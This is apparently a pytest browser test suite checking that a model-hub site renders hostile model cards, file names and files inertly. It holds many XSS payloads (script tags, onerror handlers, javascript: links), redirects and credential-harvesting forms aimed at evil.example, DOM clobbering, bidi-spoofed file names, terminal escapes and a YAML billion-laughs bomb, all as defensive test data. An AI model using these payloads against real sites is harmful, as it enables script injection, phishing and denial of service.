"""Cards, names and files that would do something in a browser, and do nothing."""

from __future__ import annotations

import pytest
from looking import assert_sound, overflow

from conftest import PHONE, WIDE

TRAPS = {
    "scripts": "<script>document.title='owned'</script><img src=x.png onerror=\"document.title='owned'\">"
    "<svg onload=\"document.title='owned'\"><script>document.title='owned'</script></svg>"
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>"
    "<details open ontoggle=alert(1)>",
    "links": "[a](javascript:document.title='owned') <a href=\" java\tscript:document.title='owned'\">b</a> "
    "<a href='data:text/html,<script>opener.document.title=1</script>'>c</a> [d](vbscript:x) "
    "<a href='//evil.example/x'>e</a> [f](/-/prefer?theme=dark) [g](../../../-/sign-in)",
    "base": "<base href='https://evil.example/'>"
    "<link rel=stylesheet href='https://evil.example/x.css'>\n\n[x](y.md)",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "style": "<style>body{display:none}</style><p style='position:fixed;inset:0;background:red'>over</p>",
    "forms": "<form action='https://evil.example/'><input name=token><button>Sign in</button></form>"
    "<button formaction='https://evil.example/'>x</button>",
    "pictures": "![spy](https://evil.example/spy.png) "
    "<img src='https://evil.example/spy.png' srcset='//evil.example/2 2x'>"
    "<picture><source srcset='https://evil.example/3'></picture> "
    "<video src='https://evil.example/v' autoplay></video>",
    "clobbering": "<h1 id='content'>x</h1><a id='token' name='form_token'>y</a>"
    "<p id='main' class='skip'>z</p>",
    "template": "{{ 7 * 7 }} {% raw %} ${document.title} {{ request }}",
    "table": "| a |" + " b |" * 300 + "\n|" + "---|" * 301 + "\n" + ("| x |" + " y |" * 300 + "\n") * 30,
    "line": "x" * 1_000_000,
    "lists": "- " * 3_000 + "x",
    "quotes": ">" * 5_000 + "x",
    "divs": "<div>" * 20_000 + "deep",
    "brackets": "[" * 20_000,
    "emphasis": "*a **b " * 10_000,
}


@pytest.mark.parametrize("trap", TRAPS)
def test_a_card_says_what_it_says_and_does_nothing(tabs, hub, trap):
    hub.store.add("org/model", {"README.md": TRAPS[trap].encode(), "x.png": b"no picture", "y.md": b"# y"})
    page = tabs.open(f"{hub.url}/org/model", width=PHONE)
    page.wait_for_load_state("networkidle")
    assert page.title() == "org/model · hubferry"
    assert page.url == f"{hub.url}/org/model"
    assert page.get_by_role("link", name="Files").first.is_visible()
    assert overflow(page) <= 0
    card = page.locator(".prose")
    assert (
        card.locator("script, style, iframe, form, input, button, base, meta, object, svg, video").count()
        == 0
    )
    for link in card.locator("a[href]").all():
        address = link.get_attribute("href")
        assert address.startswith(("/org/model/blob/", "#card-", "https://evil.example/")), address
    assert card.locator("[style], [class]:not(.scroll, .outside), [onerror]").count() == 0
    assert page.locator("main#content").count() == 1


def test_a_page_of_a_trapped_card_keeps_nobody_out_either(tabs, hub):
    hub.store.add(
        "org/model", {"README.md": "\n\n".join([TRAPS["style"], TRAPS["pictures"], TRAPS["forms"]]).encode()}
    )
    assert_sound(tabs.open(f"{hub.url}/org/model"))


NAMES = [
    "\u202egnp.exe", "a\x07b\x1b[31m.txt", "<img src=x onerror=alert(1)>.txt", "'\"&<>.json", "％2e％2e",
    "?a=b#c%2f", " leading", "zero\u200bwidth", "名字 with spaces.md",
]  # fmt: skip


def test_names_of_files_and_commits_are_words_and_hide_nothing(tabs, hub):
    contents = {f"d/{name}": f"words {number}\n".encode() for number, name in enumerate(NAMES)}
    hub.store.add("org/model", contents, "<b>title</b>\u202e \x1b[31m", author="<i>ann")
    page = tabs.open(f"{hub.url}/org/model/tree/main/d", width=WIDE)
    assert page.get_by_text("U+202E").first.is_visible()
    assert page.get_by_text("U+200B").first.is_visible()
    assert page.locator("main b, main i, main img").count() == 0
    names = page.locator("tbody th .named a")
    addresses = [one.get_attribute("href") for one in names.all()][1:]
    assert len(addresses) == len(NAMES)
    got = set()
    for address in addresses:
        page.goto(hub.url + address)
        assert page.locator(".source .text, .prose").count() == 1, address
        with page.expect_download() as coming:
            page.get_by_role("link", name="Download").click()
        got.add(coming.value.path().read_bytes())
    assert got == set(contents.values())
    page.goto(f"{hub.url}/org/model/commits/main")
    assert page.get_by_text("<b>title</b>").is_visible()
    assert overflow(page) <= 0


@pytest.mark.parametrize("name", ["page.html", "drawing.svg", "page.xhtml", "feed.xml"])
def test_a_file_that_a_browser_would_run_is_text_on_its_page_and_a_download_by_itself(tabs, hub, name):
    content = b"<svg xmlns='http://www.w3.org/2000/svg'><script>document.title='owned'</script></svg>"
    hub.store.add("org/model", {name: content})
    page = tabs.open(f"{hub.url}/org/model/blob/main/{name}")
    assert page.get_by_text("document.title='owned'").is_visible()
    assert "owned" not in page.title()
    with page.expect_download() as coming:
        page.evaluate(f"location.href = '/org/model/resolve/main/{name}'")
    assert coming.value.suggested_filename == name


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("binary.txt", b"\0\1\2" * 1000),
        ("latin.txt", "é".encode("latin-1") * 100),
        ("long.json", b'{"a": "' + b"x" * 1_000_000 + b'"}'),
        ("many.txt", b"line\n" * 200_000),
        ("lies.safetensors", b"\xff" * 64),
        ("empty.safetensors", b""),
        ("deep.safetensors", (100_000).to_bytes(8, "little") + b'{"a":' * 20_000 + b"x" * 9_000),
        ("lies.gguf", b"GGUF\3\0\0\0" + b"\xff" * 64),
        ("picture.png", b"<script>alert(1)</script>"),
        ("deep.json", b"[" * 100_000),
    ],
)
def test_a_file_that_lies_about_itself_has_a_page_all_the_same(tabs, hub, name, content):
    hub.store.add("org/model", {name: content})
    page = tabs.open(f"{hub.url}/org/model/blob/main/{name}", width=PHONE)
    assert page.get_by_role("link", name="Download").is_visible()
    assert overflow(page) <= 0


def test_a_card_of_yaml_that_stands_for_far_more_than_it_is_long_is_shown_in_short(tabs, hub):
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{two}: &{two} [{','.join([f'*{one}'] * 9)}]\n"
        for one, two in zip("abcdefgh", "bcdefghi", strict=True)
    )
    hub.store.add("org/model", {"README.md": f"---\n{bomb}---\n# Words\n".encode()})
    page = tabs.open(f"{hub.url}/org/model")
    assert page.get_by_role("heading", name="Words").is_visible()
